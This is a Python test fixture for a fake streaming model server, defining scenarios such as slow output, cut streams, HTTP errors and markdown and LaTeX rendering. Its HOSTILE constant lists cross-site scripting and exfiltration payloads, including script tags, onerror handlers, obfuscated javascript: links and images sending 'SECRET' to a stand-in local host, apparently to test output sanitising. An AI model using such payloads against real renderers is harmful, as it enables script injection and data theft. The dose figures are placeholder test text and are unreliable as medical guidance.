"""What the scripted model says (tests/fakes.py), and how it goes wrong."""

import re
from dataclasses import dataclass, field

from .answers import ANSWERS

REASONING = "The question is about a test . It is answered in a few words . "
ANSWER = "Ibuprofen can raise blood pressure . Ask before you take it . "
LONG = "".join(f"word{n} " for n in range(400))
MARKDOWN = """\
## Warning signs

- **Chest pain** or shortness of breath: call for help.

| Drug | Dose |
| --- | --- |
| Ibuprofen | 400 mg every 8 h |

The clearance is $\\frac{(140-67) \\times 70}{72 \\times 1.1}$ mL/min, so

$$ C = 64.5\\ \\text{mL/min} $$

1. Check the potassium.
2. Check it again.

```
code stays code
```
"""
TABLES = "".join(
    f"""\
## Step {n}

The dose of drug {n} rests on the clearance, $C_{{{n}}} = \\frac{{(140 - {n}) \\times 70}}{{72 \\times 1.1}}$ mL/min, and on *weight*.

| Drug | Dose | Interval | Clearance |
| --- | --- | --- | --- |
"""
    + "".join(
        f"| Drug {n}.{row} | {row}00 mg | every {row + 3} h | ${row}.5\\ \\text{{mL/min}}$ |\n" for row in range(1, 9)
    )
    + f"""
$$ D_{{{n}}} = \\int_0^{{\\infty}} C(t)\\, dt = \\frac{{\\sqrt{{{n}}}}}{{k_e V}} $$

1. Check the **potassium** before the first dose.
2. Check it again after {n} days, and call for help at any sign of bleeding.

"""
    for n in range(1, 22)
)
BOXED = "Step by step: 20 mg/kg times 15 kg is 300 mg. The result is \\boxed{300\\ \\text{mg}}."
HOSTILE = """\
<script>window.hit = 1; alert(1)</script><img src="http://127.0.0.1:9/?q=SECRET" onerror="alert(2)">
<svg onload="alert(3)"></svg><iframe srcdoc="<script>alert(4)</script>"></iframe><style>body{display:none}</style>
<form action="http://127.0.0.1:9/"><button>x</button></form><math><mtext><img src=x onerror=alert(5)></mtext></math>

[one](javascript:alert(6)) [two](JaVaScRiPt:alert(7)) [three](data:text/html,<script>alert(8)</script>)
![pixel](http://127.0.0.1:9/?q=SECRET) ![ref][pic] [four](java&#115;cript:alert(9))

[pic]: http://127.0.0.1:9/ref?q=SECRET

$\\href{javascript:alert(10)}{x}$ $\\url{javascript:alert(11)}$ $\\includegraphics{http://127.0.0.1:9/tex}$ \u202etxet desrever
"""

Token = tuple[str, str]


def words(kind: str, text: str) -> list[Token]:
    """The text in word-sized tokens."""
    return [(kind, word) for word in re.findall(r"\S*\s+|\S+", text)]


def pieces(kind: str, text: str, size: int = 64) -> list[Token]:
    """The text in pieces of so many characters."""
    return [(kind, text[start : start + size]) for start in range(0, len(text), size)]


#: In `after`: says nothing more, and stays.
HANG = b"hang"

SCRIPT = [*words("reasoning", REASONING), *words("text", ANSWER)]


@dataclass
class Scenario:
    """`tokens` are said with `pause` seconds between; after `fault_after` of them `fault` happens, `faults` times.
    `after`: what follows the end in the place of the usual figures. `echo`: the prompt itself is said instead.
    `away`: after its faults it says nothing more."""

    tokens: list[Token] = field(default_factory=lambda: SCRIPT)
    echo: bool = False
    pause: float = 0.0
    finish: str | None = "stop"
    status: int = 200
    fault: str = ""
    fault_after: int = 5
    faults: int = 10**9
    raw: bool = False
    after: tuple[bytes, ...] = ()
    retry_after: str = ""
    away: bool = False


SCENARIOS: dict[str, Scenario] = {
    "steady": Scenario(pause=0.02),
    "ponders": Scenario(pause=0.1),
    "reasons": Scenario([*words("reasoning", LONG), *words("text", ANSWER)], pause=0.1),
    "slow": Scenario([*words("reasoning", REASONING), *words("text", LONG)], pause=0.05),
    "brisk": Scenario([*words("reasoning", REASONING), *words("text", LONG)], pause=0.01),
    "fast": Scenario(),
    "echo": Scenario(echo=True),
    "placeholders": Scenario(
        [*pieces("reasoning", "About ⟦NAME-1⟧.", 3), *pieces("text", "So ⟦NAME-1⟧ ⟦PHONE-1⟧ ⟦NAME-9⟧ ⟦NAME-1", 3)],
        fault="cut",
        fault_after=9,
        faults=1,
    ),
    "markdown": Scenario([*words("reasoning", REASONING), *words("text", MARKDOWN)], pause=0.02),
    "tables": Scenario([*words("reasoning", REASONING), *words("text", TABLES)], pause=0.005),
    "boxed": Scenario([*words("reasoning", REASONING), *words("text", BOXED)], pause=0.01),
    "first_option": Scenario(words("text", "\\boxed{A}")),
    "hostile": Scenario([*words("reasoning", HOSTILE), *words("text", HOSTILE)], pause=0.005),
    "raw": Scenario(raw=True, pause=0.005),
    "length": Scenario(finish="length"),
    "thinks": Scenario(words("reasoning", REASONING), finish="length"),
    "empty": Scenario([]),
    "endless": Scenario(words("text", LONG) * 2000),
    "hang_before_headers": Scenario(fault="hang", fault_after=-1),
    "hang_mid": Scenario(fault="hang"),
    "hangs_twice": Scenario(fault="hang", faults=2),
    "engine_error": Scenario(fault="engine_error", pause=0.01),
    "cut": Scenario(fault="cut", pause=0.01),
    "breaks_once": Scenario(fault="engine_error", faults=1, pause=0.01),
    "breaks_twice": Scenario(fault="cut", fault_after=14, faults=2, pause=0.01),
    "restarts": Scenario(
        [*words("reasoning", REASONING), *words("text", LONG)], fault="cut", fault_after=45, faults=1, away=True
    ),
    "early_end": Scenario(fault="early_end"),
    "done_only": Scenario(finish=None),
    "truncated": Scenario(fault="truncated"),
    "number": Scenario(fault="number"),
    "odd": Scenario(fault="odd"),
    "no_figures": Scenario(
        after=(b'{"choices":[],"usage":{"prompt_tokens":null,"completion_tokens":"4"}}', b"{broken")
    ),
    "fails_late": Scenario(after=(b'{"error":{"message":"EngineCore encountered an issue.","code":500}}',)),
    "lingers": Scenario(after=(HANG,)),
    "halves": Scenario(
        [("reasoning", "\ud83d"), ("reasoning", "\ude00"), ("text", "\ud83d"), ("text", "\ude00 yes\ud83d")]
    ),
    "html": Scenario(fault="html", fault_after=-1),
    "redirect": Scenario(status=302),
    "error_500": Scenario(status=500),
    "error_400": Scenario(status=400),
    "busy_once": Scenario(status=503, faults=1),
    "throttled": Scenario(status=429, faults=1, retry_after="2"),
    "throttled_long": Scenario(status=503, retry_after="86400"),
    "odd_reasoning": Scenario([*pieces("reasoning", ANSWERS["odd_lines"]), ("text", "Yes.")], pause=0.001),
    **{name: Scenario(pieces("text", text), pause=0.001) for name, text in ANSWERS.items()},
}
